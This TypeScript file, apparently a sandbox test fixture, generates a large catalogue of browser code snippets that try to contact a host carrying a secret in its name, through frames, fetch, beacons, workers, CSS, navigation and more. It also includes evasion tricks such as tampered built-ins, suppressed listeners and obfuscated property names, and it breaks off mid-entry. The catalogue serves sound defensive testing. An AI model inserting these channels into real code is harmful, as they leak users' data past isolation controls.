import { NESTED_REALMS } from './nested-realms.ts';

/**
 * Ways in which a program could send a stranger data: each requests a connection to `host`, whose name contains the
 * name of the way, as it would contain a secret.
 */
export type Way = (host: string) => string;

const text = (value: string) => JSON.stringify(value).replaceAll('</', '<\\/');
const url = (host: string) => `https://${host}/`;
const frame = (host: string) => `<iframe src="${url(host)}"></iframe>`;
const frameOf = (name: string, attribute: string) => (host: string) =>
  `const made = document.createElement('${name}'); made.setAttribute('${attribute}', '${url(host)}'); document.body.append(made);`;
const set = (make: string, property: string, scheme = 'https') =>
  ((host) =>
    `const made = ${make}; made.${property} = '${scheme}://${host}/'; document.body?.append(made);`) as Way;
const put =
  (html: Way, how: (html: string) => string): Way =>
  (host) =>
    how(text(html(host)));
const LINK = "document.createElement('link')";
const link = (rel: string, more = '') =>
  ((host) =>
    `const made = ${LINK}; made.rel = '${rel}'; ${more} made.href = '${url(host)}'; document.head.append(made);`) as Way;
const svg =
  (name: string, attribute: string): Way =>
  (host) =>
    `const space = 'http://www.w3.org/2000/svg'; const drawing = document.createElementNS(space, 'svg'); const made = document.createElementNS(space, '${name}'); made.setAttribute('${attribute}', '${url(host)}'); drawing.append(made); document.body.append(drawing);`;
const xhtml = (inner: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inner}</body></html>`;
const style =
  (css: Way): Way =>
  (host) =>
    `const made = document.createElement('style'); made.textContent = ${text(css(host))}; document.head.append(made); const box = document.createElement('div'); box.className = 'way'; box.textContent = 'x'; document.body.append(box);`;

/** Elements that load a document. */
const FRAMES: Record<string, Way> = {
  'iframe by createElement': (host) =>
    `const made = document.createElement('iframe'); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe before its address': (host) =>
    `const made = document.createElement('iframe'); document.body.append(made); made.src = '${url(host)}';`,
  'iframe in capitals': (host) =>
    `const made = document.createElement('IFRAME'); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe by createElementNS': (host) =>
    `const made = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe with a prefix': (host) =>
    `const made = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe'); made.setAttribute('src', '${url(host)}'); document.body.append(made);`,
  'frame outside a frameset': frameOf('frame', 'src'),
  object: frameOf('object', 'data'),
  embed: frameOf('embed', 'src'),
  'fenced frame': (host) =>
    `const made = document.createElement('fencedframe'); made.config = new FencedFrameConfig('${url(host)}'); document.body.append(made);`,
  portal: frameOf('portal', 'src'),
  'iframe by innerHTML': put(
    frame,
    (html) =>
      `const box = document.createElement('div'); document.body.append(box); box.innerHTML = ${html};`,
  ),
  'iframe by outerHTML': put(
    frame,
    (html) =>
      `const box = document.createElement('p'); document.body.append(box); box.outerHTML = ${html};`,
  ),
  'iframe by insertAdjacentHTML': put(
    frame,
    (html) => `document.body.insertAdjacentHTML('beforeend', ${html});`,
  ),
  'iframe by a range': put(
    frame,
    (html) => `document.body.append(document.createRange().createContextualFragment(${html}));`,
  ),
  'iframe by setHTML': put(
    frame,
    (html) =>
      `const box = document.createElement('div'); document.body.append(box); box.setHTML(${html}, { sanitizer: {} });`,
  ),
  'iframe by setHTMLUnsafe': put(
    frame,
    (html) =>
      `const box = document.createElement('div'); document.body.append(box); Object.getPrototypeOf(Element.prototype); box.setHTMLUnsafe(${html});`,
  ),
  'iframe by parseHTMLUnsafe': put(
    frame,
    (html) => `document.body.append(...Document.parseHTMLUnsafe(${html}).body.children);`,
  ),
  'iframe by a command': put(
    frame,
    (html) =>
      `const box = document.createElement('div'); box.contentEditable = 'true'; box.textContent = 'x'; document.body.append(box); box.focus(); getSelection().selectAllChildren(box); document.execCommand('insertHTML', false, ${html});`,
  ),
  'iframe of a parsed document': put(
    frame,
    (html) =>
      `document.body.append(document.adoptNode(new DOMParser().parseFromString(${html}, 'text/html').querySelector('iframe')));`,
  ),
  'iframe of a parsed document, imported': put(
    frame,
    (html) =>
      `document.body.append(document.importNode(new DOMParser().parseFromString(${html}, 'text/html').body, true));`,
  ),
  'iframe of XHTML': put(
    (host) => xhtml(frame(host)),
    (xml) =>
      `document.body.append(new DOMParser().parseFromString(${xml}, 'application/xhtml+xml').documentElement);`,
  ),
  'iframe of XML, written as an entity': put(
    (host) =>
      `<!DOCTYPE x [<!ENTITY e "&#60;&#105;frame xmlns='http://www.w3.org/1999/xhtml' src='${url(host)}'/&#62;">]><x>&e;</x>`,
    (xml) =>
      `document.body.append(new DOMParser().parseFromString(${xml}, 'text/xml').documentElement.firstChild);`,
  ),
  'iframe of an answer': put(
    frame,
    (html) =>
      `const ask = new XMLHttpRequest(); ask.open('GET', 'data:text/html,' + encodeURIComponent(${html})); ask.responseType = 'document'; ask.onload = () => document.body.append(ask.response.querySelector('iframe')); ask.send();`,
  ),
  'iframe of an XML answer': put(
    (host) => xhtml(frame(host)),
    (xml) =>
      `const ask = new XMLHttpRequest(); ask.open('GET', 'data:text/xml,' + encodeURIComponent(${xml})); ask.onload = () => document.body.append(ask.responseXML.documentElement); ask.send();`,
  ),
  'iframe of a template': put(
    frame,
    (html) =>
      `const box = document.createElement('template'); box.innerHTML = ${html}; document.body.append(box.content.cloneNode(true));`,
  ),
  'iframe of another document': (host) =>
    `const other = document.implementation.createHTMLDocument(''); const made = other.createElement('iframe'); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe as the root of a document': (host) =>
    `const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe'); other.documentElement.setAttribute('src', '${url(host)}'); document.body.append(other.documentElement);`,
  'iframe by XSLT': (host) =>
    `const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><xsl:element name="{concat(&quot;ifr&quot;, &quot;ame&quot;)}"><xsl:attribute name="src">${url(host)}</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>', 'text/xml'); const by = new XSLTProcessor(); by.importStylesheet(sheet); document.body.append(by.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document));`,
  'iframe in a closed shadow': put(
    frame,
    (html) =>
      `const box = document.createElement('div'); document.body.append(box); box.attachShadow({ mode: 'closed' }).innerHTML = ${html};`,
  ),
  'iframe in a drawing': put(
    (host) => `<svg><foreignObject>${frame(host)}</foreignObject></svg>`,
    (html) => `document.body.insertAdjacentHTML('beforeend', ${html});`,
  ),
  'iframe of a custom element': (host) =>
    `customElements.define('x-way', class extends HTMLElement { connectedCallback() { const made = document.createElement('iframe'); made.src = '${url(host)}'; this.append(made); } }); document.body.append(document.createElement('x-way'));`,
  'iframe as a custom element': (host) =>
    `class Own extends HTMLIFrameElement {} customElements.define('x-own', Own, { extends: 'iframe' }); const made = new Own(); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe as a custom element, built in': (host) =>
    `customElements.define('x-built', class extends HTMLElement {}); const made = document.createElement('iframe', { is: 'x-built' }); made.src = '${url(host)}'; document.body.append(made);`,
  'iframe with a loading policy': (host) =>
    `const made = document.createElement('iframe'); made.loading = 'eager'; made.src = '${url(host)}'; document.body.prepend(made);`,
  'iframe by document.write': put(
    frame,
    (html) => `if (document.readyState === 'loading') document.write(${html});`,
  ),
  'iframe without credentials': (host) =>
    `const made = document.createElement('iframe'); made.credentialless = true; made.src = '${url(host)}'; document.body.append(made);`,
  'iframe that is navigated by name': (host) =>
    `const made = document.createElement('iframe'); made.name = 'within'; document.body.append(made); made.contentWindow.location = '${url(host)}';`,
  'srcdoc that holds another': (host) =>
    `const made = document.createElement('iframe'); made.srcdoc = ${text(frame(host))}; document.body.append(made);`,
  'srcdoc that leaves': (host) =>
    `const made = document.createElement('iframe'); made.srcdoc = ${text(`<script>location.assign('${url(host)}')</script>`)}; document.body.append(made);`,
  'iframe of SVG through data': (host) =>
    `const made = document.createElement('object'); made.type = 'image/svg+xml'; made.data = 'data:image/svg+xml,' + encodeURIComponent(${text(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url(host)}"/></svg>`)}); document.body.append(made);`,
};

/** Names and texts with another meaning when they are read a second time, and changed functions that read them. */
const TRICKS: Record<string, Way> = {
  'name that changes': (host) =>
    `let asked = 0; const name = { toString: () => (asked++ ? 'iframe' : 'div') }; const made = document.createElement(name); made.src = '${url(host)}'; document.body.append(made);`,
  'HTML that changes': put(
    frame,
    (html) =>
      `let asked = 0; const text = { toString: () => (asked++ ? ${html} : '<p></p>') }; document.body.insertAdjacentHTML('beforeend', text);`,
  ),
  'arguments that change': put(
    frame,
    (html) =>
      `document.createRange().createContextualFragment.apply(document.createRange(), { length: 1, get 0() { return this.asked ? ${html} : (this.asked = 1, 'x'); } });`,
  ),
  'methods taken apart': put(
    frame,
    (html) =>
      `const taken = [[RegExp.prototype, 'exec'], [String.prototype, 'slice'], [String.prototype, 'toLowerCase'], [String.prototype, 'indexOf'], [Reflect, 'apply'], [Function.prototype, 'call'], [Function.prototype, 'apply'], [Array.prototype, Symbol.iterator]].map(([place, name]) => { const kept = place[name]; place[name] = () => null; return () => { place[name] = kept; }; }); try { const box = document.createElement('div'); document.body.append(box); box.innerHTML = ${html}; } catch {} for (let i = 0; i < taken.length; i++) taken[i]();`,
  ),
  'answers taken apart': (host) =>
    `const length = Object.getOwnPropertyDescriptor(NodeList.prototype, 'length'); Object.defineProperty(NodeList.prototype, 'length', { get: () => 0, configurable: true }); const is = Object.getOwnPropertyDescriptor(Node, Symbol.hasInstance); Object.defineProperty(Node, Symbol.hasInstance, { value: () => false, configurable: true }); try { document.body.append(new DOMParser().parseFromString(${text(xhtml(frame('HOST')))}.replace('HOST', '${host}'), 'text/xml').documentElement); } finally { Object.defineProperty(NodeList.prototype, 'length', length); delete Node[Symbol.hasInstance]; }`,
  'template of XHTML': put(
    (host) => xhtml(`<template>${frame(host)}</template>`),
    (xml) =>
      `const read = new DOMParser().parseFromString(${xml}, 'application/xhtml+xml').getElementsByTagName('template')[0]; document.body.append(document.importNode(read.content, true));`,
  ),
  'prefix in XML': (host) =>
    `const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'div'); other.documentElement.innerHTML = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${url(host)}"></h:iframe>'; document.body.append(other.documentElement);`,
  'iframe made by construct': (host) =>
    `class Own extends HTMLIFrameElement {} customElements.define('x-construct', Own, { get extends() { return this.asked ? 'iframe' : (this.asked = 1, 'div'); } }); const made = Reflect.construct(HTMLIFrameElement, [], Own); made.src = '${url(host)}'; document.body.append(made);`,
};

/** Links that prepare a connection. */
const HINTS: Record<string, Way> = {
  'preconnect by an attribute': (host) =>
    `const made = ${LINK}; made.setAttribute('REL', 'PreConnect'); made.setAttribute('href', '${url(host)}'); document.head.append(made);`,
  'preconnect by an attribute of a space': (host) =>
    `const made = ${LINK}; made.setAttributeNS(null, 'rel', 'preconnect'); made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect by a node': (host) =>
    `const made = ${LINK}; const rel = document.createAttribute('rel'); rel.value = 'preconnect'; made.setAttributeNode(rel); made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect by the value of a node': (host) =>
    `const made = ${LINK}; made.rel = 'x'; made.href = '${url(host)}'; document.head.append(made); made.attributes.rel.value = 'preconnect';`,
  'preconnect by the text of a node': (host) =>
    `const made = ${LINK}; made.rel = 'x'; made.href = '${url(host)}'; made.getAttributeNode('rel').textContent = 'preconnect'; document.head.append(made);`,
  'preconnect by the map of attributes': (host) =>
    `const made = ${LINK}; const rel = document.createAttribute('rel'); rel.nodeValue = 'preconnect'; made.attributes.setNamedItem(rel); made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect moved from another element': (host) =>
    `const other = document.createElement('a'); other.rel = 'preconnect'; const rel = other.getAttributeNode('rel'); other.removeAttributeNode(rel); const made = ${LINK}; made.setAttributeNode(rel); made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect by a list': (host) =>
    `const made = ${LINK}; made.relList.add('preconnect'); made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect by innerHTML': (host) =>
    `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<link rel=preconnect href=${url(host)}>';`,
  'preconnect that is written as characters': (host) =>
    `document.body.insertAdjacentHTML('beforeend', '<link title=">" rel="pre&#99;onnect" href="${url(host)}">');`,
  'preconnect behind a slash': (host) =>
    `document.body.insertAdjacentHTML('beforeend', '<LINK/rel=preconnect href="${url(host)}">');`,
  'preconnect of XHTML': put(
    (host) => xhtml(`<link rel="preconnect" href="${url(host)}"/>`),
    (xml) =>
      `document.body.append(new DOMParser().parseFromString(${xml}, 'application/xhtml+xml').documentElement);`,
  ),
  'preconnect of a custom element': (host) =>
    `class Own extends HTMLLinkElement {} customElements.define('x-link', Own, { extends: 'link' }); const made = new Own(); made.rel = 'preconnect'; made.href = '${url(host)}'; document.head.append(made);`,
  'preconnect and style': link('stylesheet preconnect'),
  'dns-prefetch by an attribute': (host) =>
    `const made = ${LINK}; made.setAttribute('rel', 'dns-prefetch'); made.href = '${url(host)}'; document.head.append(made);`,
};

/** Everything else that stays on the page. */
const LOADS: Record<string, Way> = {
  'frame opened by a link': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.target = 'nowhere'; document.body.append(made); made.dispatchEvent(new MouseEvent('click', { ctrlKey: true }));`,
  'window.open': (host) => `delete window.open; window.open('${url(host)}');`,
  'open of the prototype': (host) => `Window.prototype.open?.call(window, '${url(host)}');`,
  'document.open of a window': (host) => `document.open('${url(host)}', '_blank', '');`,
  'link into a new tab': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.target = '_blank'; document.body.append(made); made.click();`,
  'link to the parent': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.target = '_parent'; made.dispatchEvent(new MouseEvent('click'));`,
  'top.location': (host) => `top.location = '${url(host)}';`,
  'parent.location': (host) => `parent.location.href = '${url(host)}';`,
  'form to the top': (host) =>
    `const made = document.createElement('form'); made.action = '${url(host)}'; made.target = '_top'; document.body.append(made); delete HTMLFormElement.prototype.submit; made.submit?.();`,
  'form into a new tab': (host) =>
    `const made = document.createElement('form'); made.method = 'post'; made.action = '${url(host)}'; made.target = '_blank'; const button = document.createElement('button'); made.append(button); document.body.append(made); button.click();`,
  'ping of a link': (host) =>
    `const made = document.createElement('a'); made.href = '#'; made.ping = '${url(host)}'; document.body.append(made); made.click();`,
  fetch: (host) => `fetch('${url(host)}', { mode: 'no-cors' });`,
  'fetch that outlives the page': (host) =>
    `fetch('${url(host)}', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' });`,
  'fetch later': (host) => `fetchLater('${url(host)}', { activateAfter: 0 });`,
  XMLHttpRequest: (host) =>
    `const ask = new XMLHttpRequest(); ask.open('GET', '${url(host)}'); ask.send();`,
  sendBeacon: (host) => `navigator.sendBeacon('${url(host)}', 'x');`,
  WebSocket: (host) => `new WebSocket('wss://${host}/');`,
  EventSource: (host) => `new EventSource('${url(host)}');`,
  WebTransport: (host) => `new WebTransport('${url(host)}');`,
  'image constructor': (host) => `new Image().src = '${url(host)}';`,
  image: set("document.createElement('img')", 'src'),
  'image of a set': (host) =>
    `const made = document.createElement('img'); made.srcset = '${url(host)} 2x'; document.body.append(made);`,
  'picture source': (host) =>
    `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="${url(host)}"><img></picture>');`,
  'image input': (host) =>
    `const made = document.createElement('input'); made.type = 'image'; made.src = '${url(host)}'; document.body.append(made);`,
  'image of a drawing': svg('image', 'href'),
  'use of a drawing': svg('use', 'href'),
  'filter of a drawing': svg('feImage', 'href'),
  'script of a drawing': svg('script', 'href'),
  video: set("document.createElement('video')", 'src'),
  'poster of a video': set("document.createElement('video')", 'poster'),
  'source of a video': (host) =>
    `document.body.insertAdjacentHTML('beforeend', '<video><source src="${url(host)}"><track default src="${url(host)}"></video>');`,
  audio: set("document.createElement('audio')", 'src'),
  'background of the page': (host) => `document.body.setAttribute('background', '${url(host)}');`,
  'background in a style': style((host) => `.way { background: url(${url(host)}); }`),
  'imported style': style((host) => `@import url(${url(host)});`),
  'font of a style': style(
    (host) => `@font-face { font-family: way; src: url(${url(host)}); } .way { font-family: way; }`,
  ),
  'cursor of a style': style((host) => `.way { cursor: url(${url(host)}), auto; }`),
  'content of a style': style((host) => `.way::before { content: url(${url(host)}); }`),
  'image set of a style': style(
    (host) => `.way { list-style-image: image-set('${url(host)}' 1x); display: list-item; }`,
  ),
  'mask of a style': style(
    (host) =>
      `.way { mask: url(${url(host)}); clip-path: url(${url(host)}#x); filter: url(${url(host)}#x); }`,
  ),
  'font by a script': (host) => `new FontFace('way', 'url(${url(host)})').load().catch(() => {});`,
  'paint worklet': (host) => `CSS.paintWorklet.addModule('${url(host)}').catch(() => {});`,
  'audio worklet': (host) =>
    `new AudioContext().audioWorklet.addModule('${url(host)}').catch(() => {});`,
  'style sheet': link('stylesheet'),
  preconnect: link('preconnect'),
  'preconnect with credentials': link('preconnect', "made.crossOrigin = 'anonymous';"),
  'dns-prefetch': link('dns-prefetch'),
  prefetch: link('prefetch'),
  'prefetch of a document': link('prefetch', "made.as = 'document';"),
  prerender: link('prerender'),
  preload: link('preload', "made.as = 'image';"),
  modulepreload: link('modulepreload'),
  icon: link('icon'),
  'touch icon': link('apple-touch-icon'),
  manifest: link('manifest'),
  'compression dictionary': link('compression-dictionary'),
  'alternate style': link('alternate stylesheet'),
  script: set("document.createElement('script')", 'src'),
  'module script': (host) =>
    `const made = document.createElement('script'); made.type = 'module'; made.src = '${url(host)}'; document.body.append(made);`,
  'dynamic import': (host) => `import('${url(host)}').catch(() => {});`,
  'static import': (host) =>
    `const made = document.createElement('script'); made.type = 'module'; made.textContent = "import '${url(host)}'"; document.body.append(made);`,
  'import map': (host) =>
    `const map = document.createElement('script'); map.type = 'importmap'; map.textContent = ${text('{"imports":{"way":"')} + '${url(host)}' + '"}}'; document.head.append(map); import('way').catch(() => {});`,
  'speculation rules, prefetch': (host) =>
    `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url(host)}'], eagerness: 'immediate' }] }); document.head.append(rules);`,
  'speculation rules, prerender': (host) =>
    `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['${url(host)}'], eagerness: 'immediate' }] }); document.head.append(rules);`,
  'speculation rules for links': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.textContent = 'x'; document.body.append(made); const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'document', where: { href_matches: '*://*/*' }, eagerness: 'immediate' }] }); document.head.append(rules);`,
  'link under the mouse': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.textContent = 'x'; document.body.append(made); for (const type of ['pointerover', 'pointerenter', 'mouseover', 'pointerdown', 'mousedown']) made.dispatchEvent(new PointerEvent(type, { bubbles: true }));`,
  worker: (host) => `new Worker('${url(host)}');`,
  'worker that imports': (host) =>
    `new Worker(URL.createObjectURL(new Blob(["importScripts('${url(host)}')"])));`,
  'worker that fetches': (host) =>
    `new Worker('data:text/javascript,' + encodeURIComponent("fetch('${url(host)}')"));`,
  'shared worker': (host) => `new SharedWorker('${url(host)}');`,
  'service worker': (host) => `navigator.serviceWorker.register('${url(host)}').catch(() => {});`,
  'policy that reports': (host) =>
    `const made = document.createElement('meta'); made.httpEquiv = 'Content-Security-Policy'; made.content = "img-src 'none'; report-uri ${url(host)}"; document.head.append(made); new Image().src = 'data:,x';`,
  'DNS prefetch control': (host) =>
    `const made = document.createElement('meta'); made.httpEquiv = 'x-dns-prefetch-control'; made.content = 'on'; document.head.append(made); const near = document.createElement('a'); near.href = '${url(host)}'; near.textContent = 'x'; document.body.append(near);`,
  'client hints': (host) =>
    `const made = document.createElement('meta'); made.httpEquiv = 'delegate-ch'; made.content = 'sec-ch-ua ${url(host)}'; document.head.append(made);`,
  'payment method': (host) =>
    `new PaymentRequest([{ supportedMethods: '${url(host)}' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {});`,
  'identity provider': (host) =>
    `navigator.credentials.get({ identity: { providers: [{ configURL: '${url(host)}', clientId: 'x', nonce: 'x' }] } }).catch(() => {});`,
  'shared storage': (host) => `sharedStorage.worklet.addModule('${url(host)}').catch(() => {});`,
  'ad auction': (host) =>
    `navigator.runAdAuction({ seller: '${url(host)}', decisionLogicURL: '${url(host)}', interestGroupBuyers: [] }).catch(() => {});`,
  'private token': (host) =>
    `fetch('${url(host)}', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => {});`,
  'download link': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.download = 'x'; document.body.append(made); made.click();`,
  'background fetch': (host) =>
    `navigator.serviceWorker.ready.then((own) => own.backgroundFetch.fetch('x', ['${url(host)}']));`,
  'STUN over TCP': (host) =>
    `const call = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${host}?transport=tcp', username: 'x', credential: 'x' }] }); call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer));`,
  'XSLT of a document': (host) =>
    `const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url(host)}"/></xsl:stylesheet>', 'text/xml'); new XSLTProcessor().importStylesheet(sheet);`,
  'entity of an XML document': (host) =>
    `new DOMParser().parseFromString('<!DOCTYPE x SYSTEM "${url(host)}"><x/>', 'text/xml');`,
};

/** Pieces of a page, as a browser reads it. */
const MARKUP: Record<string, Way> = {
  'iframe in the page': frame,
  'iframe in the page, in capitals': (host) => `<IFRAME/src=${url(host)}></IFRAME>`,
  'object in the page': (host) => `<object data="${url(host)}"></object>`,
  'embed in the page': (host) => `<embed src="${url(host)}">`,
  'iframe written in pieces': (host) =>
    `<script>document.write('<ifr'); document.write('ame src="${url(host)}"></iframe>');</script>`,
  'iframe half in the page': (host) =>
    `<script>document.write('<if');</script>rame src="${url(host)}"></iframe>`,
  'iframe in a declared shadow': (host) =>
    `<div><template shadowrootmode="closed">${frame(host)}</template></div>`,
  'preconnect in the page': (host) => `<link rel="preconnect" href="${url(host)}">`,
  'preconnect written in pieces': (host) =>
    `<script>document.write('<lin'); document.write('k rel="pre'); document.write('connect" href="${url(host)}">');</script>`,
  'preconnect half in the page': (host) =>
    `<script>document.write('<link ');</script>rel=preconnect href="${url(host)}">`,
  'dns-prefetch in the page': (host) => `<link rel="dns-prefetch" href="${url(host)}">`,
  'picture in the page': (host) => `<img src="${url(host)}">`,
  'script in the page': (host) => `<script src="${url(host)}"></script>`,
  'style in the page': (host) => `<link rel="stylesheet" href="${url(host)}">`,
  'icon in the page': (host) => `<link rel="icon" href="${url(host)}">`,
  'speculation in the page': (host) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url(host)}"]}]}</script>`,
};

/** Ways that take the program away: each is tried in a frame of its own. */
export const LEAVING: Record<string, Way> = {
  'location.href': (host) => `location.href = '${url(host)}';`,
  'location.href, computed': (host) => `window['loc' + 'ation']['hr' + 'ef'] = '${url(host)}';`,
  'location itself': (host) => `window['loc' + 'ation'] = '${url(host)}';`,
  'document.location': (host) => `document['loc' + 'ation'] = '${url(host)}';`,
  'location.assign': (host) => `window['loc' + 'ation'].assign('${url(host)}');`,
  'location.replace': (host) => `window['loc' + 'ation'].replace('${url(host)}');`,
  'location.host': (host) => `window['loc' + 'ation'].host = '${host}';`,
  'location over http': (host) => `window['loc' + 'ation'].assign('http://${host}/');`,
  'location in an answer': (host) =>
    `fetch('data:,x').then(() => window['loc' + 'ation'].assign('${url(host)}'));`,
  'location after the page': (host) =>
    `addEventListener('load', () => setTimeout(() => window['loc' + 'ation'].assign('${url(host)}'), 200));`,
  'location with the guards taken apart': (host) =>
    `addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true); document.open(); document.write('<p>again</p>'); document.close(); window['loc' + 'ation'].assign('${url(host)}');`,
  'location of a page written again': (host) =>
    `addEventListener('load', () => setTimeout(() => { document.write('<body><script>addEventListener("beforeunload", (event) => event.stopImmediatePropagation(), true); window["loc" + "ation"].assign("${url(host)}")<\\/script>'); document.close(); }));`,
  'javascript address that leaves': (host) =>
    `window['loc' + 'ation'].href = "javascript:location.assign('${url(host)}')";`,
  'location of a blob': (host) =>
    `window['loc' + 'ation'].assign(URL.createObjectURL(new Blob(['<iframe src="${url(host)}"></iframe><script>location.assign("${url(host)}")<\\/script>'], { type: 'text/html' })));`,
  'location of data': (host) =>
    `window['loc' + 'ation'].assign('data:text/html,' + encodeURIComponent('<img src="${url(host)}"><iframe src="${url(host)}"></iframe>'));`,
  'navigation.navigate': (host) => `navigation.navigate('${url(host)}');`,
  'navigation.navigate in place': (host) =>
    `navigation.navigate('${url(host)}', { history: 'replace' });`,
  'meta refresh by a script': (host) =>
    `const made = document.createElement('meta'); made.httpEquiv = 'refresh'; made.content = '0;url=${url(host)}'; document.head.append(made);`,
  'meta refresh by attributes': (host) =>
    `const made = document.createElement('meta'); document.head.append(made); made.setAttribute('content', '0;url=${url(host)}'); made.setAttribute('http-equiv', 'Refresh');`,
  'meta refresh by innerHTML': (host) =>
    `document.body.innerHTML = '<meta http-equiv="re&#102;resh" content="0;url=${url(host)}">';`,
  'meta refresh in the page': (host) =>
    `document.write('<meta http-equiv="refresh" content="0;url=${url(host)}">');`,
  'link to itself': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; document.body.append(made); made.click();`,
  'link outside the page': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; made.click();`,
  'link that keeps its click': (host) =>
    `const made = document.createElement('a'); made.href = '${url(host)}'; document.body.append(made); made.addEventListener('click', (event) => event.stopPropagation()); made.click();`,
  'link that hides from listeners': (host) =>
    `window.addEventListener('click', (event) => event.stopImmediatePropagation(), true); const made = document.createElement('a'); made.href = '${url(host)}'; document.body.append(made); made.click();`,
  'link in a shadow': (host) =>
    `const box = document.createElement('div'); document.body.append(box); const made = document.createElement('a'); made.href = '${url(host)}'; box.attachShadow({ mode: 'closed' }).append(made); made.click();`,
  'link of a drawing': (host) =>
    `const space = 'http://www.w3.org/2000/svg'; const drawing = document.createElementNS(space, 'svg'); const made = document.createElementNS(space, 'a'); made.setAttribute('href', '${url(host)}'); drawing.append(made); document.body.append(drawing); made.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));`,
  'area of a map': (host) =>
    `document.body.insertAdjacentHTML('beforeend', '<map><area href="${url(host)}"></map>'); document.querySelector('area').click();`,
  'form that is sent': (host) =>
    `const made = document.createElement('form'); made.action = '${url(host)}'; document.body.append(made); delete HTMLFormElement.prototype.submit; Object.getPrototypeOf(made).submit?.call(made);`,
  'form by a button': (host) =>
    `const made = document.createElement('form'); made.action = '${url(host)}'; made.method = 'post'; document.body.append(made); const button = document.createElement('button'); made.append(button); button.addEventListener('click', (event) => event.stopPropagation()); window.addEventListener('click', (event) => event.stopImmediatePropagation(), true); button.click();`,
  'history, back from elsewhere': (host) =>
    `try { history.pushState(null, '', '${url(host)}'); } catch {} history.go(0);`,
  'base address': (host) =>
    `document.head.insertAdjacentHTML('beforeend', '<base href="${url(host)}">'); const made = document.createElement('a'); made.setAttribute('href', 'x'); made.click();`,
  'window.open of itself': (host) =>
    `delete window.open; Window.prototype.open?.call(window, '${url(host)}', '_self'); window.open?.('${url(host)}', '_self');`,
  frameset: (host) =>
    `const set = document.createElement('frameset'); const made = document.createElement('frame'); made.src = '${url(host)}'; set.append(made); document.documentElement.replaceChildren(set);`,
};

/** Ways to leave a page that has no body: Chromium does not ask such pages whether their program may leave. */
export const BODYLESS: Record<string, Way> = {
  'location without a body': (host) =>
    `document.body.remove(); window['loc' + 'ation'].assign('${url(host)}');`,
  'location of a page written again, without a body': (host) =>
    `addEventListener('load', () => setTimeout(() => { document.write('<script>window["loc" + "ation"].assign("${url(host)}")<\\/script>'); document.close(); }));`,
};

/** Ways that a script can try in a worker, which is a realm of its own. */
const IN_WORKERS: Record<string, Way> = {
  fetch: (host) => `fetch('${url(host)}').catch(() => {});`,
  socket: (host) => `new WebSocket('wss://${host}/');`,
  transport: (host) => `new WebTransport('${url(host)}');`,
  events: (host) => `new EventSource('${url(host)}');`,
  request: (host) =>
    `const asked = new XMLHttpRequest(); asked.open('GET', '${url(host)}'); asked.send();`,
  call: (host) =>
    `new RTCPeerConnection({ iceServers: [{ urls: 'turn:${host}?transport=tcp', username: 'x', credential: 'x' }] }).createDataChannel('x');`,
  import: (host) => `import('${url(host)}').catch(() => {});`,
  'import of a script': (host) => `importScripts('${url(host)}');`,
  'worker of its own': (host) => `new Worker('${url(host)}');`,
  'worker of its own that fetches': (host) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${url(host)}')"])));`,
  beacon: (host) => `navigator.sendBeacon('${url(host)}', 'x');`,
  font: (host) => `new FontFace('x', "url('${url(host)}')").load().catch(() => {});`,
};

/** The ways out in workers, which begin with code of ours; and in a worker that was made without it. */
const WORKERS: Record<string, Way> = {
  ...Object.fromEntries(
    Object.entries(IN_WORKERS).flatMap(([name, way]) => [
      [
        `in a worker: ${name}`,
        (host: string) => `new Worker(URL.createObjectURL(new Blob([${text(way(host))}])));`,
      ],
      [
        `in a module: ${name}`,
        (host: string) =>
          `new Worker(URL.createObjectURL(new Blob([${text(way(host))}])), { type: 'module' });`,
      ],
    ]),
  ),
  'in a worker whose opening code is replaced': (host) =>
